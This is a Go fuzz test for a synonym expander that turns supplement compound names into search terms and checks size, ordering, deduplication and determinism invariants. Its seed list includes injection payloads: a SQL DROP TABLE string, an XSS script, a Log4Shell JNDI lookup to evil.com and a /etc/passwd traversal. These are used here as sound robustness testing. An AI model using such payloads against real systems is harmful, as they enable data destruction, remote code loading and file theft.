package synonym

import (
	"reflect"
	"strings"
	"testing"
)

// FuzzExpand tests that arbitrary compound names never cause a panic and
// that the expansion always honors its output contract: bounded size,
// the trimmed input surviving, no duplicates or empty terms, and a
// deterministic, length-sorted order.
func FuzzExpand(f *testing.F) {
	seeds := []string{
		// Compound names the dictionary knows
		"MK-2866",
		"RAD-140",
		"GW-501516",
		"Ostarine",

		// Code forms and algorithmic-variant triggers
		"LGD 4033",
		"sr9009",
		"Cardarine (GW501516)",
		"Nicotinamide Mononucleotide (NMN)",
		"Epigallocatechin gallate green tea extract",

		// Plain names with no variants
		"curcumin",
		"creatine",

		// Injection payloads
		"'; DROP TABLE studies; --",
		"<script>alert('xss')</script>",
		"${jndi:ldap://evil.com/a}",
		"../../etc/passwd",

		// Null bytes and control characters
		"name\x00with\x00nulls",
		"name\nwith\nnewlines",
		"name\twith\ttabs",

		// Unicode edge cases
		"​",                        // zero-width space
		"\ufeff",                   // BOM
		"Schöllkopf's reagent",     // umlaut
		"\U0001F4A9",               // emoji
		string([]byte{0xfe, 0xff}), // invalid UTF-8

		// Hyphen and parenthesis pile-ups
		"a-b-c-d-e-f-g-h",
		"((((nested))))",
		"-",
		"()",

		// Long strings
		strings.Repeat("a", 10000),
		strings.Repeat("x-1 ", 500),

		// Empty and whitespace
		"",
		" ",
		"\t\n\r",
	}
	for _, seed := range seeds {
		f.Add(seed)
	}

	withAliases := New(DefaultAliases())
	withoutAliases := New(nil)

	f.Fuzz(func(t *testing.T, name string) {
		for _, expander := range []*Expander{withAliases, withoutAliases} {
			terms := expander.Expand(name)

			// Invariant 1: whitespace-only input expands to nothing.
			trimmed := strings.TrimSpace(name)
			if trimmed == "" {
				if len(terms) != 0 {
					t.Errorf("Expand(%q) = %v, want empty for blank input", name, terms)
				}
				continue
			}

			// Invariant 2: the term list never exceeds MaxTerms.
			if len(terms) > MaxTerms {
				t.Errorf("Expand(%q) produced %d terms, cap is %d", name, len(terms), MaxTerms)
			}

			// Invariant 3: the trimmed input always survives truncation.
			if !contains(terms, trimmed) {
				t.Errorf("Expand(%q) = %v, missing the input term %q", name, terms, trimmed)
			}

			// Invariant 4: no term is empty or carries outer whitespace,
			// and no term appears twice.
			seen := make(map[string]struct{}, len(terms))
			for _, term := range terms {
				if term == "" || term != strings.TrimSpace(term) {
					t.Errorf("Expand(%q) produced unnormalized term %q", name, term)
				}
				if _, dup := seen[term]; dup {
					t.Errorf("Expand(%q) produced duplicate term %q", name, term)
				}
				seen[term] = struct{}{}
			}

			// Invariant 5: terms are ordered by ascending length.
			for i := 1; i < len(terms); i++ {
				if len(terms[i]) < len(terms[i-1]) {
					t.Errorf("Expand(%q) order broken at %d: %q before %q", name, i, terms[i-1], terms[i])
				}
			}

			// Invariant 6: expansion is deterministic.
			if again := expander.Expand(name); !reflect.DeepEqual(terms, again) {
				t.Errorf("Expand(%q) not deterministic:\n  first:  %v\n  second: %v", name, terms, again)
			}
		}
	})
}
